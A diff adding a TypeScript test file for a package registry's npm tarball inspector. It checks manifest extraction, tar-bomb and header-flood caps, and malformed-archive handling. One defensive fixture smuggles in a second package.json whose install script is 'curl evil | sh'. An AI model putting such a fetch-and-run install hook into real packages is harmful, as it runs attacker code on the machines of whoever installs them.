@@ -1,0 +1,118 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { RegistryError } from '../../../src/packages/registry/errors.ts';
+import { inspectTarball } from '../../../src/packages/registry/tarball.ts';
+import { gzip, packTarball, tarBomb, tarOf, truncatedTarball } from '../../support/fixture-packages.ts';
+
+const stream = (bytes: Uint8Array) => new Blob([bytes as BlobPart]).stream();
+const inspect = (bytes: Uint8Array, cap = 10_000_000) => inspectTarball(stream(bytes), cap);
+const codeOf = (promise: Promise<unknown>) =>
+  promise.then(
+    () => 'ok',
+    (error: unknown) => (error instanceof RegistryError ? error.code : `unexpected ${String(error)}`),
+  );
+
+describe('reading an npm tarball', () => {
+  it('returns the package’s own package.json and the bytes of all its files', async () => {
+    const bytes = await packTarball({
+      name: 'tiny',
+      version: '1.2.3',
+      packageJson: { license: 'ISC' },
+      files: { 'lib/a.js': 'a'.repeat(1000) },
+    });
+    const summary = await inspect(bytes);
+    expect(summary.manifest).toMatchObject({ name: 'tiny', version: '1.2.3', license: 'ISC' });
+    const manifestLength = JSON.stringify(summary.manifest, null, 2).length;
+    const indexLength = 'module.exports = "tiny@1.2.3";\n'.length;
+    expect(summary.unpackedSize).toBe(manifestLength + indexLength + 1000);
+  });
+
+  it('takes the first path segment as the package folder, whatever its name (as npm does)', async () => {
+    const bytes = await gzip(
+      tarOf({
+        'node-v1/package.json': JSON.stringify({ name: 'odd', version: '1.0.0' }),
+        'node-v1/x.js': '',
+      }),
+    );
+    expect((await inspect(bytes)).manifest).toEqual({ name: 'odd', version: '1.0.0' });
+  });
+
+  it('finds package.json under a folder name so long that it sits in the ustar prefix field', async () => {
+    const folder = `package-${'x'.repeat(100)}`;
+    const manifest = JSON.stringify({ name: 'deep', version: '1.0.0' });
+    const bytes = await gzip(tarOf({ [`${folder}/package.json`]: manifest, [`${folder}/file.js`]: 'x' }));
+    expect(await inspect(bytes)).toEqual({
+      manifest: { name: 'deep', version: '1.0.0' },
+      unpackedSize: manifest.length + 1,
+    });
+  });
+
+  it('refuses a tar bomb as soon as it unpacks past the cap, without unpacking the rest', async () => {
+    const bomb = await tarBomb({ name: 'bomb', version: '1.0.0' }, 50_000_000);
+    expect(bomb.length).toBeLessThan(100_000);
+    const started = performance.now();
+    expect(await codeOf(inspect(bomb, 1_000_000))).toBe('unpacked_too_large');
+    expect(performance.now() - started).toBeLessThan(2_000);
+  });
+
+  it('counts tar headers towards the cap: a flood of empty files is a bomb too', async () => {
+    const entries: Record<string, string> = {
+      'package/package.json': JSON.stringify({ name: 'flood', version: '1.0.0' }),
+    };
+    for (let i = 0; i < 5_000; i++) entries[`package/f${i}`] = '';
+    expect(await codeOf(inspect(await gzip(tarOf(entries)), 100_000))).toBe('unpacked_too_large');
+  });
+
+  it('refuses a tarball with two package.json files (npm would install the second, unscanned)', async () => {
+    const bytes = await gzip(
+      tarOf({
+        'package/package.json': JSON.stringify({ name: 'twice', version: '1.0.0' }),
+        './package/package.json': JSON.stringify({
+          name: 'twice',
+          version: '1.0.0',
+          scripts: { install: 'curl evil | sh' },
+        }),
+      }),
+    );
+    expect(await codeOf(inspect(bytes))).toBe('malformed_tarball');
+  });
+
+  it('tells a broken archive (malformed_tarball) from a package without a usable package.json (invalid_manifest)', async () => {
+    expect(await codeOf(inspect(await truncatedTarball({ name: 'cut', version: '1.0.0' })))).toBe(
+      'malformed_tarball',
+    );
+    expect(await codeOf(inspect(new TextEncoder().encode('not gzip at all')))).toBe('malformed_tarball');
+    expect(await codeOf(inspect(await gzip(new TextEncoder().encode('gzip, but not tar'))))).toBe(
+      'malformed_tarball',
+    );
+    const corrupt = tarOf({ 'package/package.json': '{}' });
+    corrupt[0] = 'X'.charCodeAt(0); // the header checksum no longer holds
+    expect(await codeOf(inspect(await gzip(corrupt)))).toBe('malformed_tarball');
+    expect(await codeOf(inspect(await gzip(tarOf({ 'package/index.js': '' }))))).toBe('invalid_manifest');
+    expect(await codeOf(inspect(await gzip(tarOf({ 'package/package.json': '{ nope' }))))).toBe(
+      'invalid_manifest',
+    );
+    expect(await codeOf(inspect(await gzip(tarOf({ 'package/package.json': '[1]' }))))).toBe(
+      'invalid_manifest',
+    );
+  });
+
+  it('any prefix of a tarball either fails as a broken archive or yields the true package.json (never a wrong one)', async () => {
+    const whole = await gzip(
+      tarOf({
+        'package/package.json': JSON.stringify({ name: 'prefix', version: '1.0.0' }),
+        'package/data.bin': crypto.getRandomValues(new Uint8Array(4096)),
+      }),
+    );
+    await fc.assert(
+      fc.asyncProperty(fc.integer({ min: 0, max: whole.length - 1 }), async (length) => {
+        const outcome = await inspect(whole.slice(0, length)).then(
+          (summary) => summary.manifest.name,
+          (error: unknown) => (error instanceof RegistryError ? error.code : 'unexpected'),
+        );
+        expect(['malformed_tarball', 'prefix']).toContain(outcome);
+      }),
+      { numRuns: 150 },
+    );
+  });
+});
